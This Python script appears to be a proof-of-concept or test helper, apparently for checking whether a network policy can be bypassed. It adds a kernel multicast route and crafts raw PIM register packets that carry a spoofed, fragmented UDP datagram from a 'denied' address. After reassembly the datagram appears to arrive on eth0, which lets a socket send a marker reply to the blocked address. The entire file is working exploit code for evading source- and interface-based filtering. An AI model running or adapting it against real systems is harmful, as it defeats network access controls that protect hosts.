#!/usr/bin/env python3
"""pim_frag.py DENIED DPORT MARKER

helper-96's variant of pim.py: the datagram "from" DENIED:DPORT comes in two fragments. The
first is unwrapped onto pimreg (a register sent to 127.0.0.1); then the socket leaves the group
there, and the last fragment, unwrapped too, is forwarded by the multicast route this process
adds (pimreg in, eth0 out) and looped back on eth0, where the socket is in the group too. Put
together, the datagram has eth0 for its device and the first fragment's record. The socket then
answers DENIED:DPORT with MK{MARKER}.
"""
import select
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def main():
    denied, dport, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    group, lport = "239.7.7.8", 5001
    eth0 = socket.if_nametoindex("eth0")
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((denied, 9))
    local = probe.getsockname()[0]
    probe.close()
    mr = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IGMP)
    mr.setsockopt(socket.IPPROTO_IP, 200, struct.pack("i", 1))  # MRT_INIT
    # MRT_ADD_VIF: vif 0 the register device, vif 1 eth0 (by its address)
    mr.setsockopt(socket.IPPROTO_IP, 202, struct.pack("=HBBI4s4s", 0, 4, 1, 0, bytes(4), bytes(4)))
    mr.setsockopt(socket.IPPROTO_IP, 202, struct.pack("=HBBI4s4s", 1, 0, 1, 0, socket.inet_aton(local), bytes(4)))
    # MRT_ADD_MFC: (denied, group) in on vif 0, out on vif 1
    ttls = bytes([0, 1]) + bytes(30)
    mr.setsockopt(socket.IPPROTO_IP, 204, struct.pack("@4s4sH32sIIIi", socket.inet_aton(denied),
                                                      socket.inet_aton(group), 0, ttls, 0, 0, 0, 0))
    pimreg = socket.if_nametoindex("pimreg")
    print("multicast route added: pimreg", pimreg, "to eth0", eth0, flush=True)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("0.0.0.0", lport))

    def mreq(ifindex):
        return socket.inet_aton(group) + bytes(4) + struct.pack("i", ifindex)

    u.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq(pimreg))
    u.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq(eth0))
    body = b"x" * 1192
    udp = struct.pack("!HHHH", dport, lport, 8 + len(body), 0) + body

    def ip_header(length, fragment):
        h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0x4321, fragment, 64, 17, 0,
                        socket.inet_aton(denied), socket.inet_aton(group))
        return h[:10] + struct.pack("!H", csum(h)) + h[12:]

    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, 103)
    pim = struct.pack("!BBHI", 0x21, 0, 0, 0)
    pim = pim[:2] + struct.pack("!H", csum(pim)) + pim[4:]
    first, last = udp[:1000], udp[1000:]
    r.sendto(pim + ip_header(len(first), 0x2000) + first, ("127.0.0.1", 0))
    time.sleep(0.3)
    u.setsockopt(socket.IPPROTO_IP, socket.IP_DROP_MEMBERSHIP, mreq(pimreg))
    r.sendto(pim + ip_header(len(last), 1000 // 8) + last, ("127.0.0.1", 0))
    if not select.select([u], [], [], 2)[0]:
        print("nothing received", flush=True)
        return
    data, peer = u.recvfrom(4096)
    print("received", len(data), "bytes from", peer, flush=True)
    try:
        u.sendto(b"MK{%s}" % marker.encode(), peer)
        print("reply: sent", flush=True)
    except OSError as e:
        print("reply:", e.errno, e.strerror, flush=True)


main()
